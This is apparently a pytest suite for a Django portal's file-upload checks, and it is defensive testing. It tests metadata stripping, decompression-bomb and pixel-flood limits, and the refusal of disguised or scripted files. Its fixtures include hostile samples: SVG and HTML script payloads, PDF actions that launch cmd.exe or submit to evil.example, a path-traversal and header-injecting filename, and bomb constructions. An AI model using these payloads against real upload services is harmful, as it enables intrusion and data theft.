"""Attacks by files: bent, doubled, swollen or talkative pictures, and names that want to be more than names."""

import io
import random
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from accounts.models import Body, User
from initiatives.models import Attachment, Initiative
from initiatives.services import attaching
from initiatives.states import State
from portal.errors import InvalidInput
from tests.actors import AT
from tests.factories.files import make_pdf
from tests.factories.initiatives import make_initiative

pytestmark = pytest.mark.django_db
SECRET = b"taken at home by Aigul"


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture(autouse=True)
def in_english() -> Iterator[None]:
    """The refusals are told apart by their words."""
    with translation.override("en"):
        yield


@pytest.fixture
def draft(citizen: User, ministry: Body) -> Initiative:
    return make_initiative(body=ministry, author=citizen, state=State.DRAFT, at=AT)


def picture(kind: str, **more: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (40, 20), "red").save(made, kind, **more)
    return made.getvalue()


def attach(draft: Initiative, content: bytes, name: str) -> Attachment:
    return attaching.attach(initiative=draft, by=draft.author, upload=SimpleUploadedFile(name, content), at=AT)


def test_a_telephones_doubled_jpeg_is_taken_as_one_picture(draft: Initiative) -> None:
    doubled = picture("MPO", save_all=True, append_images=[Image.new("RGB", (40, 20), "blue")])
    kept = attach(draft, doubled, "photo.jpg")
    assert kept.content_type == "image/jpeg"
    with Image.open(kept.file.path) as seen:
        assert seen.format == "JPEG"


def test_a_kept_picture_says_nothing_about_who_took_it(draft: Initiative) -> None:
    notes = Image.Exif()
    notes[0x010E] = SECRET.decode()
    kept = attach(draft, picture("JPEG", comment=SECRET, exif=notes), "photo.jpg")
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", SECRET.decode())
    also = attach(draft, picture("PNG", pnginfo=words), "scan.png")
    for one in (kept, also):
        assert SECRET not in Path(one.file.path).read_bytes()


def test_a_picture_swollen_with_text_is_refused(draft: Initiative) -> None:
    words = PngImagePlugin.PngInfo()
    words.add_text("bomb", "x" * 20_000_000, zip=True)
    with pytest.raises(InvalidInput):
        attach(draft, picture("PNG", pnginfo=words), "small.png")


@pytest.mark.filterwarnings("ignore")
def test_no_bent_picture_is_a_fault_of_ours(draft: Initiative) -> None:
    chance = random.Random(2026)
    whole = [("a.jpg", picture("JPEG")), ("a.png", picture("PNG")), ("a.webp", picture("WEBP"))]
    for _number in range(600):
        name, content = chance.choice(whole)
        bent = bytearray(content)
        for _place in range(chance.randint(1, 4)):
            bent[chance.randrange(12, len(bent))] = chance.randrange(256)
        try:
            attaching._sound(bytes(bent[: chance.randint(12, len(bent))]), name)
        except InvalidInput:
            continue


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("page.html", b"%PDF-1.7 <script>alert(1)</script>"),
        ("photo.pdf", b"<html><script>alert(1)</script>"),
        ("photo.jpg", b"GIF89a" + bytes(40)),
        ("archive.png", b"PK\x03\x04" + bytes(400)),
        ("letter.docx", b"PK\x03\x04" + bytes(400)),
        ("drawing.png", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ],
)
def test_what_is_not_what_it_says_is_refused(draft: Initiative, name: str, content: bytes) -> None:
    with pytest.raises(InvalidInput):
        attach(draft, content, name)
    assert not Attachment.objects.exists()


def test_a_file_is_only_ever_a_download_under_a_tame_name(draft: Initiative, client: Client, settings: Any) -> None:
    """A PDF may hold scripts, and its name may hold a path or a header: neither comes to life on our origin."""
    polyglot = make_pdf().replace(b"\n", b"\n%<script>alert(document.domain)</script>\n", 1) + b"\nPK\x03\x04<html>"
    kept = attach(draft, polyglot, '../../etc/x\r\nSet-Cookie: a="b.pdf')
    client.force_login(draft.author)
    answer = client.get(reverse("initiatives:attachment", args=[draft.code, kept.pk]))
    answer.close()
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Type"] == "application/pdf"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert not answer.cookies.get("a")
    stored = Path(kept.file.path).read_bytes()
    assert b"<script" not in stored
    assert b"<html" not in stored
    assert b"PK" not in stored
    assert "/" not in kept.name
    assert Path(kept.file.path).is_relative_to(settings.MEDIA_ROOT)
    assert Path(kept.file.path).name == f"{kept.sha256}.pdf"


def scripted(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.alert(1)"))


def opening(action: dict[str, str]) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        entries = {
            NameObject(key): NameObject(value) if key == "/S" else TextStringObject(value)
            for key, value in action.items()
        }
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(entries)

    return change


def on_the_page(writer: PdfWriter) -> None:
    """A link in a page's own array that starts a program, three levels deep."""
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])


def with_file(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ")


def locked(writer: PdfWriter) -> None:
    writer.encrypt("", "x", algorithm="RC4-128")


def with_form(writer: PdfWriter) -> None:
    form = DictionaryObject({NameObject("/XFA"): ArrayObject([])})
    writer.root_object[NameObject("/AcroForm")] = form


@pytest.mark.parametrize(
    "change",
    [
        scripted,
        opening({"/S": "/JavaScript", "/JS": "app.alert(1)"}),
        opening({"/S": "/Launch", "/F": "cmd.exe"}),
        opening({"/S": "/SubmitForm", "/F": "https://evil.example/"}),
        opening({"/S": "/GoToR", "/F": "//evil.example/share"}),
        on_the_page,
        with_file,
        with_form,
    ],
)
def test_a_pdf_that_would_do_something_is_refused(draft: Initiative, change: Callable[[PdfWriter], None]) -> None:
    with pytest.raises(InvalidInput) as refused:
        attach(draft, make_pdf(change=change), "letter.pdf")
    assert "scripts" in str(refused.value.fields["file"])
    assert not Attachment.objects.exists()


def test_a_script_under_a_disguised_name_is_refused(draft: Initiative) -> None:
    """#4A is J: a name may be written so, and readers understand it."""
    disguised = make_pdf(change=opening({"/S": "/XavaScript", "/JX": "app.alert(1)"}))
    disguised = disguised.replace(b"/XavaScript", b"/#4AavaScript")
    with pytest.raises(InvalidInput) as refused:
        attach(draft, disguised, "letter.pdf")
    assert "scripts" in str(refused.value.fields["file"])


def test_a_pdf_behind_a_password_is_refused(draft: Initiative) -> None:
    with pytest.raises(InvalidInput) as refused:
        attach(draft, make_pdf(change=locked), "letter.pdf")
    assert "password" in str(refused.value.fields["file"])


def test_a_pdf_that_swells_is_refused_quickly(draft: Initiative) -> None:
    """A stream of objects of 60 kB that unpacks to 60 MB, and a catalogue that asks for one of them."""
    packed = zlib.compress(b"6 0 << /Bomb true >>" + b" " * 60_000_000, 9)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
        % (len(packed), packed),
    ]
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (1, len(made), 0), (2, 4, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    start = len(made)
    made += b"5 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    made += b"startxref\n%d\n%%%%EOF\n" % start
    assert len(made) < 100_000
    harmless = made.replace(packed, zlib.compress(b"6 0 << /Bomb true >>").ljust(len(packed), b"\0"))
    assert attach(draft, harmless, "small.pdf").size < 10_000
    began = time.monotonic()
    with pytest.raises(InvalidInput):
        attach(draft, made, "letter.pdf")
    assert time.monotonic() - began < 10


def test_a_pdf_does_not_say_who_made_it(draft: Initiative) -> None:
    kept = attach(
        draft, make_pdf(change=lambda writer: writer.add_metadata({"/Author": "Aigul Serikova"})), "letter.pdf"
    )
    assert b"Aigul" not in Path(kept.file.path).read_bytes()


def test_a_picture_of_sixty_megapixels_is_refused_before_it_is_unpacked(draft: Initiative) -> None:
    made = io.BytesIO()
    Image.new("1", (10_000, 6_000)).save(made, "PNG")
    assert len(made.getvalue()) < 20_000
    with pytest.raises(InvalidInput) as refused:
        attach(draft, made.getvalue(), "huge.png")
    assert "pixels" in str(refused.value.fields["file"])


def test_a_picture_that_lies_about_its_size_is_refused(draft: Initiative) -> None:
    """The head says 20,000 by 20,000, the body holds 40 by 20; and the other way round."""
    honest = picture("PNG")
    head = struct.pack(">II", 20_000, 20_000) + honest[24:29]
    lying = honest[:16] + head + struct.pack(">I", zlib.crc32(b"IHDR" + head)) + honest[33:]
    with pytest.raises(InvalidInput):
        attach(draft, lying, "small.png")
    head = struct.pack(">II", 4_000, 4_000) + honest[24:29]
    lying = honest[:16] + head + struct.pack(">I", zlib.crc32(b"IHDR" + head)) + honest[33:]
    with pytest.raises(InvalidInput):
        attach(draft, lying, "small.png")


def test_places_that_a_telephone_wrote_are_gone(draft: Initiative) -> None:
    notes = Image.Exif()
    notes.get_ifd(0x8825)[2] = (43.0, 14.0, 19.0)
    notes.get_ifd(0x8825)[1] = "N"
    kept = attach(draft, picture("JPEG", exif=notes), "photo.jpg")
    with Image.open(kept.file.path) as seen:
        assert not seen.getexif()
        assert not seen.getexif().get_ifd(0x8825)


def test_no_bent_pdf_is_a_fault_of_ours(draft: Initiative) -> None:
    chance = random.Random(2026)
    whole = make_pdf(change=scripted)
    for _number in range(150):
        bent = bytearray(whole)
        for _place in range(chance.randint(1, 12)):
            bent[chance.randrange(8, len(bent))] = chance.randrange(256)
        try:
            made = attaching._sound(bytes(bent), "letter.pdf")[2]
        except InvalidInput:
            continue
        assert b"/JavaScript" not in made
